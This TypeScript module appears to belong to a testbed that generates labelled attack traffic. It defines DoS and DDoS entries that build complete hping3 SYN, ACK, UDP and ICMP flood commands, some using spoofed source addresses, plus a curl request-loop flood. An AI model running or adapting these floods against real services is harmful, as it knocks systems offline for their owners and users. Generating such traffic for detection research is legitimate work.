import type {Attack, ServiceName} from "../configuration.ts";
import type {Label} from "../truth.ts";

/** hping3 with its own packets against one service. */
function hping(tool: string, service: ServiceName, options: readonly string[], seconds = 8): Attack {
  return {
    label: "DoS",
    tool,
    needs: ["hping3"],
    against: [service],
    plan({endpoints}) {
      const {address, port} = endpoints[service];
      const at = options.includes("-1") ? [] : ["-p", `${port}`];
      return {commands: [["hping3", "-q", ...options, ...at, address]], seconds, to: [address]};
    }
  };
}

export const synFlood = hping("hping-syn", "http", ["-S", "-i", "u3000", "-c", "500"]);
export const synDataFlood = hping("hping-syn-data", "https", ["-S", "-d", "60", "-i", "u4000", "-c", "400"]);
export const ackFlood = hping("hping-ack", "http", ["-A", "-d", "120", "-i", "u4000", "-c", "400"]);
export const udpFlood = hping("hping-udp", "dns", ["-2", "-d", "300", "-i", "u3000", "-c", "500"]);
export const udpBigFlood = hping("hping-udp-big", "ntp", ["-2", "-d", "900", "-i", "u5000", "-c", "400"]);
export const icmpFlood = hping("hping-icmp", "http", ["-1", "-d", "900", "-i", "u2000", "-c", "1500"], 6);

/** The same flood from all of the host's addresses at once. */
function fromMany(tool: string, label: Label, service: ServiceName, options: readonly string[]): Attack {
  return {
    label,
    tool,
    needs: ["hping3"],
    against: [service],
    plan({endpoints, host, random}) {
      const {address, port} = endpoints[service];
      const at = options.includes("-1") ? [] : ["-p", `${port}`];
      const from = random.shuffled(host.aliases ?? [host.address]).slice(0, random.integer(5, 12));
      const commands = from.map((source) => ["hping3", "-q", ...options, ...at, "-a", source, address]);
      return {commands, seconds: 7, from, to: [address]};
    }
  };
}

export const manySyn = fromMany("many-syn", "DDoS", "http", ["-S", "-i", "u14000", "-c", "60"]);
export const manyUdp = fromMany("many-udp", "DDoS", "dns", ["-2", "-d", "500", "-i", "u15000", "-c", "60"]);
export const manyIcmp = fromMany("many-icmp", "DDoS", "http", ["-1", "-d", "700", "-i", "u8000", "-c", "100"]);
export const manyAck = fromMany("many-ack", "DDoS", "http", ["-A", "-i", "u15000", "-c", "50"]);
export const manySynData = fromMany("many-syn-data", "DDoS", "https", ["-S", "-d", "60", "-i", "u16000", "-c", "50"]);

/** Requests from all of the host's addresses at once, each with a connection of its own. */
export const manyRequests: Attack = {
  label: "DDoS",
  tool: "many-requests",
  needs: ["curl"],
  against: ["http"],
  plan({endpoints, host, random}) {
    const {address, port} = endpoints.http;
    const from = random.shuffled(host.aliases ?? [host.address]).slice(0, random.integer(5, 10));
    const path = random.pick(["/f/2.bin", "/app/search?q=a"]);
    const loop = (source: string) =>
      `for i in $(seq 14); do curl -s -m 3 --interface ${source} "http://${address}:${port}${path}" -o /dev/null; done`;
    return {commands: from.map((source) => ["sh", "-c", loop(source)]), seconds: 9, from, to: [address], ports: [port]};
  }
};
